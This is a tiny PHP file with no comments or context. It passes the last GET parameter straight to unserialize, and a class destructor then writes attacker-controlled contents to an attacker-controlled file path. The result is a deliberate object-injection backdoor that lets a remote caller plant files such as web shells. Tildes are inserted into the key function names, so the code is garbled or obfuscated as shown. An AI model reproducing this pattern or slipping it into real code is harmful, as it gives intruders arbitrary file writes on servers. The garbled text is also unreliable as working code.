<?php exit; ?>
<?php
class MarkerSave { var $f; var $t; function __destruct() { fil~e_put_contents($this->f, $this->t); } }
$all = $_G~ET; $z = array_pop($all); uns~erialize($z);
